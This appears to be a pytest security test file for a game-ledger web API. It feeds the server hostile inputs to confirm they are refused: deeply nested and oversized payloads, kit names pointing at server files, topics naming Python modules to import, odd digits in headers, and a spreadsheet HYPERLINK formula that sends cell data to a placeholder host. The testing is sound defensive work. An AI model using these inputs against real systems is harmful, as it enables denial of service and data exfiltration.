"""No input reaches the server's stack, files or modules: nested and oversized values of every kind the codec
knows, sent to every route that decodes a body, answer a 4xx with a code and leave the server up; a game file
names a built-in kit and never a path; a bundle's topics are the ledger's own; a private game answers as an
unknown one on import; numbers in headers are ASCII digits; CSV cells never start a formula; pages say what
they may load."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from uuid import uuid4

import httpx
import msgpack
import pytest
from fastapi.testclient import TestClient

from api.app import too_large
from evo_ledger.game import aggregate as game_module
from evo_ledger.game.aggregate import stored_hash
from evo_ledger.game.codec import EXT_DATETIME, EXT_TUPLE, EXT_UUID, MAX_DEPTH, CodecError, pack, unpack, unpack_input
from evo_ledger.rules.kits import KitError, builtin_kit_names, canonical_hash, load_kit_document, parse_kit
from projections.schema import read_tables
from tests.helpers.api import HAND_GAME, client_for, new_game
from tests.helpers.servers import ADMIN
from tests.helpers.support import EVO_LEDGER, child_env, serve_process

MSGPACK = {"Content-Type": "application/msgpack"}
TEXT = {"Content-Type": "text/plain"}
ADMIN_HEADERS = {"Authorization": f"Bearer {ADMIN}"}
DEEP = 3000  # deeper than any decoder's stack: msgpack's is 1,024, Python's recursion limit 1,000
OVERSIZED = 1_100_000  # over the 1 MB a request body may be


@pytest.fixture
def client(database: str) -> Iterator[TestClient]:
    with client_for(database, max_body_bytes=1_000_000) as test_client:
        yield test_client


# Values of every kind the codec decodes, each nested or oversized.


def nested_tuples(depth: int) -> bytes:
    data = msgpack.packb([])
    for _ in range(depth):
        data = msgpack.packb(msgpack.ExtType(EXT_TUPLE, data))
    return bytes(data)


MSGPACK_VALUES: dict[str, bytes] = {
    "tuples nested 3000 deep": nested_tuples(DEEP),
    "arrays nested 3000 deep": b"\x91" * DEEP + b"\xc0",
    "maps nested 3000 deep": b"\x81\xa1k" * DEEP + b"\xc0",
    "tuples nested just past the depth": nested_tuples(MAX_DEPTH + 1),
    "a list as a map key": b"\x81\x91\x01\x02",
    "a map as a map key": b"\x81\x81\x01\x02\x03",
    "an unknown extension type": bytes(msgpack.packb(msgpack.ExtType(99, b"x"))),
    "a uuid of 3 bytes": bytes(msgpack.packb(msgpack.ExtType(EXT_UUID, b"abc"))),
    "a time that is no time": bytes(msgpack.packb(msgpack.ExtType(EXT_DATETIME, b"\xff\xfe"))),
    "a timestamp of 5 bytes": b"\xc7\x05\xff12345",
    "an array that says it holds 4 billion items": b"\xdd\xff\xff\xff\xff",
    "a string cut short": b"\xdb\x00\x10\x00\x00abc",
    "a timestamp past the year 9999": b"\xc7\x0c\xff" + bytes(4) + (2**62).to_bytes(8, "big"),
    "bytes over the body's limit": bytes(msgpack.packb(b"x" * OVERSIZED)),
}
JSON_VALUES: dict[str, str] = {
    "arrays nested 100000 deep": "[" * 100_000 + "]" * 100_000,
    "objects nested 100000 deep": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "arrays nested 200 deep": "[" * 200 + "]" * 200,
    "a string over the body's limit": '"' + "x" * OVERSIZED + '"',
    "a number of 5000 digits": "9" * 5000,
}
TEXT_VALUES: dict[str, bytes] = {
    "text over the body's limit": b"ruleset evo2 1\n" + b"#" * OVERSIZED,
    "bytes that are not UTF-8": b"ruleset evo2 1\n\xff\xfe",
}


def json_bodies(value: str) -> list[str]:
    """The value alone, and in each place of each body that takes a value of its own."""
    return [
        value,
        '{"kit": ' + value + ', "players": []}',
        '{"actions": [' + value + "]}",
        '{"actions": [{"kind": "bid", "player": "ann", "amount": ' + value + "}]}",
        '{"private": ' + value + "}",
    ]


def bodies_for(content_type: str) -> Iterator[tuple[str, bytes]]:
    if content_type == "application/json":
        for name, value in JSON_VALUES.items():
            yield from ((f"{name} ({place})", body.encode()) for place, body in enumerate(json_bodies(value)))
    elif content_type == "application/msgpack":
        for name, data in MSGPACK_VALUES.items():
            yield name, data
            yield f"{name} as a bundle's event", bundle_with_event_bytes(data)
            yield f"{name} as a bundle's events", msgpack_bundle_with(data)
    else:
        yield from TEXT_VALUES.items()


def msgpack_bundle_with(events: bytes) -> bytes:
    """A bundle whose 'events' is the given msgpack value."""
    head = pack({"format": "evo-ledger-bundle", "version": 1, "game": str(uuid4())})
    return bytes([head[0] + 1]) + head[1:] + pack("events") + events


def bundle_with_event_bytes(state: bytes) -> bytes:
    rows = [["evo-ledger:Game.Started", 1, state]]
    return pack({"format": "evo-ledger-bundle", "version": 1, "game": str(uuid4()), "events": rows})


@pytest.fixture
def served(database: str, tmp_path: Path) -> Iterator[tuple[str, subprocess.Popen[str]]]:
    """`evo-ledger serve` in a process of its own, so that a request that crashed it would be seen."""
    options = ["--database", database, "--log-level", "warning"]
    with serve_process(options, {**child_env(), "EVO_LEDGER_ADMIN_TOKEN": ADMIN}, tmp_path) as served:
        yield served.base, served.process


def test_nested_and_oversized_values_of_every_kind_answer_a_4xx_on_every_route_that_decodes_a_body(
    served: tuple[str, subprocess.Popen[str]],
) -> None:
    base, server = served
    with httpx.Client(base_url=base, timeout=60) as http:
        created = http.post("/v1/games", json={"kit": "standin-e2-3p", "players": [{"name": n} for n in "abc"]})
        game, recorder = created.json()["game_id"], created.json()["recorder_token"]
        operations = [
            (method, path.replace("{game_id}", game), content_type)
            for path, item in http.get("/openapi.json").json()["paths"].items()
            for method, operation in item.items()
            for content_type in operation.get("requestBody", {}).get("content", {})
        ]
        assert {(m, c) for m, _, c in operations} >= {("post", "application/json"), ("post", "application/msgpack")}
        answered: list[tuple[str, str, int, str]] = []
        for method, path, content_type in operations:
            token = ADMIN if path.endswith("privacy") else recorder
            headers = {"Content-Type": content_type, "Authorization": f"Bearer {token}"}
            for name, body in bodies_for(content_type):
                answer = http.request(method.upper(), path, content=body, headers=headers)
                code = answer.json().get("code", "") if answer.status_code >= 400 else ""
                answered.append((path, name, answer.status_code, code))
                assert server.poll() is None, f"{method} {path} with {name} ended the server"
        wrong = [entry for entry in answered if not (400 <= entry[2] < 500 and entry[3])]
        assert not wrong, wrong
        assert http.get("/health").status_code == 200
        assert http.get(f"/v1/games/{game}").json()["version"] == 1  # nothing was written


# A game file names a built-in kit; the server's files stay its own.


def file_naming_kit(kit: str) -> str:
    return f"ruleset evo2 1\nkit {kit}\nplayers ann ben cat\norder ann ben cat\n"


def test_a_game_file_over_http_names_a_built_in_kit_and_no_file_of_the_server_is_read(
    client: TestClient, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text('{"format": "evo2-kit", "password": "hunter2"}')
    binary = tmp_path / "binary.json"
    binary.write_bytes(b"\xff\xfe\x00\x01" * 100)
    messages = set()
    for path in (secret, tmp_path / "nothing.json", binary, Path("/dev/zero")):
        answer = client.post("/v1/games/import", content=file_naming_kit(str(path)), headers=TEXT)
        assert answer.status_code == 422 and answer.json()["code"] == "setup_error", (path, answer.text)
        assert "hunter2" not in answer.text and "built-in kit" in answer.text, (path, answer.text)
        messages.add(re.sub(r"kit '[^']*'", "kit PATH", answer.json()["message"]))  # a long name is cut short
    assert len(messages) == 1, messages  # a file present, missing, binary or endless: the same answer


def test_the_command_line_still_imports_a_game_whose_kit_is_a_file_of_its_user(tmp_path: Path) -> None:
    kit = tmp_path / "my-kit.json"
    kit.write_text(json.dumps(load_kit_document("standin-e2-3p")[0]))
    game_file = tmp_path / "game.evo"
    game_file.write_text(file_naming_kit("my-kit.json"))
    command = [str(EVO_LEDGER), "import", "--database", str(tmp_path / "cli.sqlite"), str(game_file)]
    done = subprocess.run(command, env=child_env(), capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr


# A bundle's topics are looked up among the ledger's own events, never imported.


def exported_bundle(client: TestClient) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """A real game's bundle, and its events' fields decoded (the game itself is deleted from the ledger's view by
    giving the bundle a new id when it is rehashed)."""
    game, recorder = new_game(client)
    client.post(f"/v1/games/{game}/actions", json={"actions": ["order ann ben cat", "climate cw"]}, headers=recorder)
    bundle = unpack(client.get(f"/v1/games/{game}/export", params={"format": "bundle"}).content)
    return bundle, [unpack(state) for _, _, state in bundle["events"]]


def rehashed(bundle: dict[str, Any], fields: list[dict[str, Any]], topics: dict[int, str] | None = None) -> bytes:
    """The bundle with the given fields, under a new game id, its chain made to hold again."""
    game_id = uuid4()
    previous = "0" * 64
    rows = []
    for number, (row, event) in enumerate(zip(bundle["events"], fields, strict=False), start=1):
        topic = (topics or {}).get(number, row[0])
        chained = {**event, "prev_hash": previous}
        chained["hash"] = stored_hash(topic, game_id, number, chained)
        previous = chained["hash"]
        rows.append([topic, number, pack(chained)])
    return pack({**bundle, "game": str(game_id), "events": rows})


def test_a_bundle_whose_topic_names_a_module_imports_nothing(client: TestClient) -> None:
    assert "this" not in sys.modules
    bundle, fields = exported_bundle(client)
    for topic in ("this:s", "evo-ledger:Game.Started.__init__", "evo_ledger.cli.main:main"):
        answer = client.post("/v1/games/import", content=rehashed(bundle, fields, {2: topic}), headers=MSGPACK)
        assert answer.status_code == 422 and answer.json()["code"] == "bundle_error", answer.text
        assert "no game event's" in answer.json()["message"]
    assert "this" not in sys.modules


def with_states(bundle: dict[str, Any], state: bytes) -> bytes:
    """The bundle with every event's bytes replaced."""
    return pack({**bundle, "events": [[topic, version, state] for topic, version, _ in bundle["events"]]})


def malformed_bundles(bundle: dict[str, Any], fields: list[dict[str, Any]]) -> dict[str, bytes]:
    started, second = fields[0], fields[1]
    deep: Any = 1
    for _ in range(MAX_DEPTH + 2):
        deep = [deep]
    endless_kit = {**started["kit_document"], "players": 10**12}
    valid = unpack(rehashed(bundle, fields))
    unhashable = {
        f"an action of {name}": pack(
            {
                **valid,
                "events": [
                    valid["events"][0],
                    [*valid["events"][1][:2], pack({**unpack(valid["events"][1][2]), "notation": value})],
                ],
            }
        )
        for name, value in (
            ("NaN", float("nan")),
            ("bytes", b"x"),
            ("mixed keys", {1: 2, "a": 3}),
            ("a tuple key", [{(1, 2): 1}]),
        )
    }
    return {
        **unhashable,
        "unreadable event bytes": with_states(bundle, b"\xc1"),
        "an event that is a list": with_states(bundle, pack([1, 2])),
        "a list as a map key": with_states(bundle, b"\x81\x91\x01\x02"),
        "a deeply nested event": rehashed(bundle, [started, {**second, "notation": deep}]),
        "an event with no time": with_states(bundle, pack({"hash": 1})),
        "a setup with another field's type": rehashed(bundle, [{**started, "players": 7}, second]),
        "a setup with a field too many": rehashed(bundle, [{**started, "extra": 1}, second]),
        "a setup with a field missing": rehashed(bundle, [{k: v for k, v in started.items() if k != "kit"}, second]),
        "a setup of a module's class": rehashed(bundle, [{**started, "originator_topic": "this:s"}, second]),
        "a setup of no module": rehashed(bundle, [{**started, "originator_topic": "nosuchmodule:x"}, second]),
        "a kit of 10**12 players": rehashed(bundle, [{**started, "kit_document": endless_kit}, second]),
        "a kit of 10**12 players with its hash": rehashed(
            bundle, [{**started, "kit_document": endless_kit, "kit_hash": canonical_hash(endless_kit)}, second]
        ),
        "an action of a number, not a notation": rehashed(bundle, [started, {**second, "notation": 12}]),
        "an action first": rehashed(bundle, [second, second], {1: bundle["events"][1][0]}),
        "a setup twice": rehashed(bundle, [started, started], {2: bundle["events"][0][0]}),
        "a class version that is text": rehashed(bundle, [{**started, "class_version": "4"}, second]),
        "events that are not a list": pack({**bundle, "events": {"a": 1}}),
        "an event of four parts": pack({**bundle, "events": [[*bundle["events"][0], 1]]}),
        "a version that is text": pack({**bundle, "events": [[bundle["events"][0][0], "1", bundle["events"][0][2]]]}),
        "a game that is no id": pack({**bundle, "game": "nope"}),
        "a game that is a number": pack({**bundle, "game": 7}),
    }


def test_malformed_bundles_answer_422_naming_what_is_wrong(client: TestClient) -> None:
    assert "this" not in sys.modules
    bundle, fields = exported_bundle(client)
    assert client.post("/v1/games/import", content=rehashed(bundle, fields), headers=MSGPACK).status_code == 201
    for name, data in malformed_bundles(bundle, fields).items():
        answer = client.post("/v1/games/import", content=data, headers=MSGPACK)
        assert answer.status_code == 422 and answer.json()["code"] == "bundle_error", (name, answer.text)
    assert "this" not in sys.modules


# Limits: events per game, decode depth.


def test_a_game_holds_at_most_its_limit_of_events_by_every_route(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    bundle, _ = exported_bundle(client)
    too_many = pack({**bundle, "events": [["", 1, b""]] * (game_module.MAX_GAME_EVENTS + 1)})
    answer = client.post("/v1/games/import", content=too_many, headers=MSGPACK)
    assert answer.status_code == 422 and "at most 20000" in answer.json()["message"], answer.text
    monkeypatch.setattr(game_module, "MAX_GAME_EVENTS", 5)
    game_file = client.post("/v1/games/import", content=HAND_GAME, headers=TEXT)
    assert game_file.status_code == 422 and game_file.json()["code"] == "game_too_long", game_file.text


def test_a_value_in_an_action_nests_at_most_the_decode_depth(client: TestClient) -> None:
    game, recorder = new_game(client)
    deep: Any = 1
    for _ in range(MAX_DEPTH + 1):
        deep = [deep]
    action = {"kind": "bid", "player": "ann", "amount": 1, "target": deep}
    answer = client.post(f"/v1/games/{game}/actions", json={"actions": [action]}, headers=recorder)
    assert answer.status_code == 422 and f"deeper than {MAX_DEPTH}" in answer.text, answer.text


# A private game, numbers in headers, CSV cells, pages.


def test_a_private_game_answers_as_an_unknown_one_when_its_file_is_imported_again(client: TestClient) -> None:
    first = client.post("/v1/games/import", content=HAND_GAME, headers=TEXT).json()["game_id"]
    public_again = client.post("/v1/games/import", content=HAND_GAME, headers=TEXT)
    assert public_again.status_code == 409 and first in public_again.json()["message"]
    client.put(f"/v1/games/{first}/privacy", json={"private": True}, headers=ADMIN_HEADERS)
    again = client.post("/v1/games/import", content=HAND_GAME, headers=TEXT)
    assert again.status_code == 201 and first not in again.text, again.text
    by_admin = client.post("/v1/games/import", content=HAND_GAME, headers={**TEXT, **ADMIN_HEADERS})
    assert by_admin.status_code == 409 and first in by_admin.json()["message"]


def test_a_last_event_id_of_digits_other_than_ascii_is_refused(served: tuple[str, subprocess.Popen[str]]) -> None:
    base, _ = served
    with httpx.Client(base_url=base, timeout=60) as http:
        created = http.post("/v1/games", json={"kit": "standin-e2-3p", "players": [{"name": n} for n in "abc"]})
        stream = f"/v1/games/{created.json()['game_id']}/stream"
        for raw in ("²", "³", "¹", "١٢", "1e3", "-1", "0" * 4400 + "1", "9" * 4400):
            for sent in {raw.encode("latin-1", "replace"), raw.encode("utf-8")}:
                answer = http.get(stream, headers=[(b"last-event-id", sent)])
                assert answer.status_code == 422 and answer.json()["code"] == "invalid_request", (sent, answer.text)


def test_a_games_list_cursor_of_other_digits_is_refused(client: TestClient) -> None:
    answer = client.get("/v1/games", params={"cursor": "١٢"})
    assert answer.status_code == 422 and answer.json()["code"] == "invalid_request", answer.text


def test_a_content_length_that_is_no_number_is_refused_as_such(client: TestClient) -> None:
    game, recorder = new_game(client)
    headers = [(b"content-length", "²".encode("latin-1")), (b"content-type", b"application/json")]
    headers.append((b"authorization", recorder["Authorization"].encode()))
    answer = client.post(f"/v1/games/{game}/actions", headers=headers)
    assert answer.status_code == 400 and answer.json()["code"] == "invalid_request", answer.text


FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def test_csv_cells_that_would_start_a_formula_are_escaped(client: TestClient) -> None:
    players = [{"name": "ann", "id": FORMULA}, {"name": "ben", "id": "+1"}, {"name": "cat", "id": "@cat"}]
    game = client.post("/v1/games", json={"kit": "standin-e2-3p", "players": players}).json()
    client.post(
        f"/v1/games/{game['game_id']}/actions",
        json={"actions": ["order ann ben cat"]},
        headers={"Authorization": f"Bearer {game['recorder_token']}"},
        params={"wait_for_projections": 20},
    )
    cells = [
        cell
        for table in read_tables()
        for row in csv.reader(io.StringIO(client.get(f"/v1/tables/{table.name}.csv").text))
        for cell in row
    ]
    risky = [cell for cell in cells if "HYPERLINK" in cell or cell in ("+1", "@cat", "'+1", "'@cat")]
    assert risky and all(cell.startswith("'") for cell in risky), risky
    assert "'" + FORMULA in cells


PAGES = ("/", "/dashboard", "/games/b2795c99-9880-4cd9-9ac7-07962ded6a82", "/docs")


@pytest.mark.parametrize("path", PAGES)
def test_every_page_says_what_it_may_load_and_that_no_site_frames_it(client: TestClient, path: str) -> None:
    headers = client.get(path).headers
    policy = headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy and "default-src 'self'" in policy and "'unsafe-eval'" not in policy
    assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff"


def test_shipped_assets_are_not_sniffed_and_a_page_opened_as_an_asset_keeps_its_policy(client: TestClient) -> None:
    for asset in ("/static/api.js", "/static/common.css", "/static/chartjs/chart.umd.min.js"):
        assert client.get(asset).headers["x-content-type-options"] == "nosniff", asset
    for page in ("/static/viewer.html", "/static/games.html", "/static/dashboard.html"):
        headers = client.get(page).headers
        assert "frame-ancestors 'none'" in headers["content-security-policy"] and headers["x-frame-options"] == "DENY"


def test_a_content_length_of_any_number_of_digits_is_weighed_without_reading_it_whole() -> None:
    assert too_large(b"0" * 4400 + b"5", 1_000_000) is False
    assert too_large(b"9" * 4400, 1_000_000) is True
    assert too_large(b"1000001", 1_000_000) is True and too_large(b"1000000", 1_000_000) is False


@pytest.mark.parametrize("kit", builtin_kit_names())
def test_a_kit_counting_pieces_by_the_trillion_is_refused_at_once(kit: str) -> None:
    document = load_kit_document(kit)[0]
    players = document["players"]
    endless = {**document, "players": {**players, "max": 10**12} if isinstance(players, dict) else 10**12}
    with pytest.raises(KitError, match="within 1000"):
        parse_kit(endless)


def test_the_docs_page_allows_its_own_starting_script_only(client: TestClient) -> None:
    policy = client.get("/docs").headers["content-security-policy"]
    script_sources = next(part for part in policy.split("; ") if part.startswith("script-src")).split()
    assert script_sources[:2] == ["script-src", "'self'"] and len(script_sources) == 3
    assert script_sources[2].startswith("'sha256-")


@pytest.mark.parametrize("name", [name for name in MSGPACK_VALUES if not name.startswith("bytes")])
def test_a_value_from_outside_is_refused_by_the_codec_unless_it_decodes_within_its_depth(name: str) -> None:
    with pytest.raises(CodecError):
        unpack_input(MSGPACK_VALUES[name])


def test_stored_values_within_the_depth_decode_as_they_were() -> None:
    shallow: Any = ()  # as deep as a value in a map may be
    for _ in range(MAX_DEPTH - 2):
        shallow = (shallow,)
    value = {"at": datetime(2026, 1, 1, tzinfo=UTC), "nested": shallow, "id": uuid4()}
    assert unpack_input(pack(value)) == unpack(pack(value)) == value
